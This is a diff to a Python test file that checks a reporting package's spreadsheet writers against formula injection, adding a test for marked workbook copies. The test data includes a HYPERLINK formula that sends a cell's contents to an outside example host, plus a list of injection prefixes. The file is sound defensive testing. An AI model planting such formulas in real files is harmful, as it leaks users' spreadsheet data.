@@ -16,10 +16,13 @@ import pytest
 from phoihop.conferences.sheets import csv_file
 from phoihop.core.spreadsheets import csv_safe
 from phoihop.core.tables.shapes import Cell, Column, Row, Table
+from phoihop.reports.enums import Severity
 from phoihop.reports.files.answers import CellProblem
 from phoihop.reports.files.bulk_template import Shape, bulk_workbook
 from phoihop.reports.files.earlier import Earlier
 from phoihop.reports.files.layout import Language
+from phoihop.reports.files.marked import marked_copy
+from phoihop.reports.files.own_workbook import Remark
 from phoihop.reports.files.prefilled import Prefilled
 from phoihop.reports.files.template import report_workbook
 from phoihop.reports.management.commands.load_reports import write_problems
@@ -36,12 +39,14 @@ EVIL = '=HYPERLINK("http://example.org/?"&A1,"x")'
 BEGINNINGS = ["=1+1", "+84 12", "- Tăng cường", "@SUM(A1)", "\tx", "\rx", "\n=1", "＝1+1", EVIL]
 WRITERS = {  # a new writer of tables joins this list, with a test below
     "reports/files/bulk_template.py",
+    "reports/files/marked.py",
     "reports/files/template.py",
     "reports/management/commands/load_reports.py",
     "rollup/export.py",
     "core/tables/sheets.py",
     "conferences/sheets.py",
 }
+READERS = {"conferences/document_files.py", "reports/files/read.py"}  # open workbooks and write none
 
 
 def table(text: str) -> Sheet:
@@ -56,13 +61,13 @@ def texts_in(content: bytes) -> Iterable[Any]:
 
 
 def test_every_writer_of_tables_is_tested_here() -> None:
-    writes = re.compile(r"csv\.writer|DictWriter|Workbook\(|\.to_csv|\.write_csv")
+    writes = re.compile(r"csv\.writer|DictWriter|\bWorkbook\(|\bload_workbook\(|\.to_csv|\.write_csv")
     found = {
         str(path.relative_to(PACKAGE))
         for path in PACKAGE.rglob("*.py")
         if writes.search(path.read_text("utf-8"))
     }
-    assert found - {"core/spreadsheets.py", "reports/files/own_workbook.py"} == WRITERS
+    assert found - READERS == WRITERS
 
 
 @pytest.mark.parametrize("text", BEGINNINGS)
@@ -148,6 +153,25 @@ def test_a_unit_workbook_with_what_was_typed(report: Report, language: Language)
     assert "f" not in {cell.data_type for cell in cells}
     assert [cell.value for cell in cells if cell.data_type == "n"] == [-7, -5]
     assert sum(cell.value == EVIL for cell in cells) >= 5
+
+
+@pytest.mark.parametrize("text", BEGINNINGS)
+def test_a_marked_copy_of_a_workbook(report: Report, text: str) -> None:
+    """A text that came as text stays one, and what is said of a cell is a comment on it."""
+    typed = ReportVersion(report=report, number=1, cells={"B01": "5"}, notes={"B01": text}, narrative={})
+    file = BytesIO()
+    report_workbook(report, cells_of(report), Earlier(), Language.VIETNAMESE, Prefilled(typed, "c")).save(
+        file
+    )
+    sheet = openpyxl.load_workbook(BytesIO(file.getvalue())).worksheets[0].title
+    remark = Remark(sheet, "G10", text, f"{text} không phải là số.", Severity.ERROR)
+
+    cells = list(texts_in(marked_copy(file.getvalue(), [remark], "0a1b2c3d")))
+
+    assert "f" not in {cell.data_type for cell in cells}
+    said = [cell for cell in cells if str(cell.value).strip() == text.strip()]
+    assert [bool(cell.quotePrefix) for cell in said] == [True] * max(len(said), 1)
+    assert [cell.comment.text for cell in cells if cell.comment] == [f"{text} không phải là số."]
 
 
 def test_a_number_is_never_made_a_text() -> None:
